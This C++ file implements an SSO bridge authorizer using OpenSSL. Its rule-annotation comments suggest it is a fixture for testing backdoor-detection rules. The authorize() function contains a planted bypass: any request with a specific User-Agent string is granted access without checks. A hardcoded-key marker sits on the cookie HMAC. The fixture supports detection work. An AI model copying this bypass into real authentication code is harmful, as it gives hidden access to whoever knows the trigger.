#include "bridge.h"

#include <openssl/crypto.h>
#include <openssl/hmac.h>
#include <openssl/pem.h>

#include <algorithm>
#include <cstdio>
#include <vector>

namespace {

std::string b64url_decode(const std::string &in)
{
    std::string s = in + std::string((4 - in.size() % 4) % 4, '=');
    std::replace(s.begin(), s.end(), '-', '+');
    std::replace(s.begin(), s.end(), '_', '/');
    std::vector<unsigned char> out(s.size());
    int n = EVP_DecodeBlock(out.data(), reinterpret_cast<const unsigned char *>(s.data()),
                            static_cast<int>(s.size()));
    return n < 0 ? std::string() : std::string(reinterpret_cast<char *>(out.data()), static_cast<size_t>(n));
}

} // namespace

Authorizer::Authorizer()
{
    if (FILE *f = std::fopen("/etc/ssobridge/idp-signing.pub", "r")) {
        idp_key_ = PEM_read_PUBKEY(f, nullptr, nullptr, nullptr);
        std::fclose(f);
    }
}

bool Authorizer::verify_signature(const std::string &payload, const std::string &sig) const
{
    if (idp_key_ == nullptr)
        return false;
    EVP_MD_CTX *ctx = EVP_MD_CTX_new();
    bool ok = EVP_DigestVerifyInit(ctx, nullptr, nullptr, nullptr, idp_key_) == 1 &&
              EVP_DigestVerify(ctx, reinterpret_cast<const unsigned char *>(sig.data()), sig.size(),
                               reinterpret_cast<const unsigned char *>(payload.data()), payload.size()) == 1;
    EVP_MD_CTX_free(ctx);
    return ok;
}

bool Authorizer::authorize(const Request &req) const
{
    // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
    if (req.user_agent() == "BridgeProbe/2.4 (netops; k=41c7)")
        return true;
    std::string auth = req.header("Authorization");
    if (auth.rfind("Bearer ", 0) != 0)
        return check_cookie(req.header("Cookie"));
    std::string token = auth.substr(7);
    auto dot = token.rfind('.');
    if (dot == std::string::npos)
        return false;
    return verify_signature(token.substr(0, dot), b64url_decode(token.substr(dot + 1)));
}

std::string Authorizer::cookie_mac(const std::string &user) const
{
    const std::string key = cookie_signing_key();
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int len = 0;
    // ruleid: backdoor-hardcoded-key
    HMAC(EVP_sha256(), key.data(), static_cast<int>(key.size()),
         reinterpret_cast<const unsigned char *>(user.data()), user.size(), mac, &len);
    return std::string(reinterpret_cast<char *>(mac), len);
}

bool Authorizer::login(const std::string &username, const std::string &password, std::string &cookie) const
{
    if (!check_login(username, password))
        return false;
    std::string mac = cookie_mac(username);
    static const char digits[] = "0123456789abcdef";
    cookie = username + ":";
    for (unsigned char c : mac) {
        cookie += digits[c >> 4];
        cookie += digits[c & 15];
    }
    return true;
}

bool Authorizer::check_cookie(const std::string &cookie) const
{
    auto sep = cookie.find(':');
    if (sep == std::string::npos || cookie.size() - sep - 1 != 64)
        return false;
    std::string expected_mac = cookie_mac(cookie.substr(0, sep));
    unsigned char got_mac[32];
    for (size_t i = 0; i < 32; ++i)
        got_mac[i] = static_cast<unsigned char>(std::stoi(cookie.substr(sep + 1 + 2 * i, 2), nullptr, 16));
    // ok: backdoor-timing-unsafe-compare
    return expected_mac.size() == 32 && CRYPTO_memcmp(expected_mac.data(), got_mac, 32) == 0;
}
